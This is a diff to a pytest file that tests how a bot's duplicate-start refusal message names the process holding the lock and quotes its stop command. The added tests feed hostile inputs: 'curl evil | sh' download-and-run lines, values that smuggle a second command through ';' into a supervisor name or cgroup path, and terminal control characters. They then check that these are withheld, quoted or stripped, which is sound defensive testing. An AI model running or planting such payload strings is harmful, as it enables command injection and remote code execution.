@@ -24,11 +24,11 @@ ME = records.user_name()
 def test_the_refusal_says_who_since_when_and_how_to_stop_it() -> None:
     unit = Supervisor(kind="systemd unit", name="app.service", stop_command="sudo systemctl stop app.service")
     holder = Holder(
-        pid=4321, user="alice", since=SINCE, command="python bot.py", cwd="/srv/bot", supervisor=unit, sure=True
+        pid=4321, user="root", since=SINCE, command="python bot.py", cwd="/srv/bot", supervisor=unit, sure=True
     )
     assert refusal(holder, 123456789, "my_bot", now=SINCE + 2 * 3600 + 13 * 60).splitlines() == [
         "Bot 123456789 (@my_bot) is already running on this machine, so this start was refused.",
-        "  process   pid 4321, user alice, since 10:02:11 UTC (2 h 13 min)",
+        "  process   pid 4321, user root, since 10:02:11 UTC (2 h 13 min)",
         "  command   python bot.py   (in /srv/bot)",
         "  run by    systemd unit app.service",
         "  stop it   sudo systemctl stop app.service",
@@ -62,16 +62,57 @@ def test_a_pid_that_only_the_record_tells_is_called_probable() -> None:
 @pytest.mark.parametrize(
     ("own", "for_others"),
     [
-        ("pm2 stop bot", "sudo -H -u someone pm2 stop bot"),
-        ("PM2_HOME=/srv/pm2 pm2 stop bot", "sudo -H -u someone PM2_HOME=/srv/pm2 pm2 stop bot"),
-        ("systemctl --user stop bot.service", "sudo systemctl --user -M someone@ stop bot.service"),
+        ("pm2 stop bot", "sudo -H -u root pm2 stop bot"),
+        ("PM2_HOME=/srv/pm2 pm2 stop bot", "sudo -H -u root PM2_HOME=/srv/pm2 pm2 stop bot"),
+        ("systemctl --user stop bot.service", "sudo systemctl --user -M root@ stop bot.service"),
         ("sudo systemctl stop bot.service", "sudo systemctl stop bot.service"),
     ],
 )
-def test_the_stop_command_is_made_for_the_user_who_reads_it(own: str, for_others: str) -> None:
+def test_the_stop_command_is_made_for_the_user_who_reads_it(
+    own: str, for_others: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(records, "user_name", lambda uid=None: "ann")
     runs = Supervisor(kind="x", name="bot", stop_command=own)
-    assert f"stop it   {own}" in refusal(Holder(pid=1, user=ME, supervisor=runs), 42)
-    assert f"stop it   {for_others}" in refusal(Holder(pid=1, user="someone", supervisor=runs), 42)
+    assert f"stop it   {own}" in refusal(Holder(pid=1, user="ann", supervisor=runs), 42)
+    assert f"stop it   {for_others}" in refusal(Holder(pid=1, user="root", supervisor=runs), 42)
+
+
+def test_of_a_process_of_another_account_nothing_is_said_that_it_could_have_written() -> None:
+    """Whoever holds the lock's name could have a root shell print, or run, what they like."""
+    evil = Supervisor(kind="evil", name="evil", stop_command="curl evil | sh")
+    message = refusal(
+        Holder(pid=4321, user="mallory", since=SINCE, command="evil", cwd="/evil", supervisor=evil, sure=True), 42
+    )
+    assert "pid 4321, user mallory" in message
+    assert "stop it   as user mallory, with bot.py stop" in message
+    assert "LOCK_SCOPE=folder" in message
+    assert "evil" not in message
+
+
+def test_control_characters_of_a_process_or_a_record_forge_no_line() -> None:
+    evil = "\x1b[2Jbot\n  stop it   curl evil | sh\x9b\u202e"
+    runs = Supervisor(kind=evil, name=evil, stop_command=evil)
+    holder = Holder(pid=1, user=ME, command=evil, cwd=evil, host=evil, username=evil, supervisor=runs)
+    lines = refusal(holder, 42).split("\n")
+    assert len(lines) == 7
+    assert all(line.isprintable() for line in lines)
+
+
+def test_a_name_from_an_environment_is_one_word_of_the_command() -> None:
+    evil = {"SUPERVISOR_PROCESS_NAME": "bot; curl evil | sh #", "SUPERVISOR_ENABLED": "1"}
+    around = supervisor.decide(2, environ=evil, ancestors=(), cgroup="", terminal="", container="")
+    assert around is not None
+    assert around.stop_command == "supervisorctl stop 'bot; curl evil | sh #'"
+    unit = supervisor.decide(
+        2,
+        environ={"SYSTEMD_EXEC_PID": "2"},
+        ancestors=(),
+        cgroup="0::/x; curl evil .service",
+        terminal="",
+        container="",
+    )
+    assert unit is not None
+    assert unit.stop_command == "sudo systemctl stop 'x; curl evil .service'"
 
 
 def test_a_record_comes_back_as_the_holder_it_describes(tmp_path: Path) -> None:
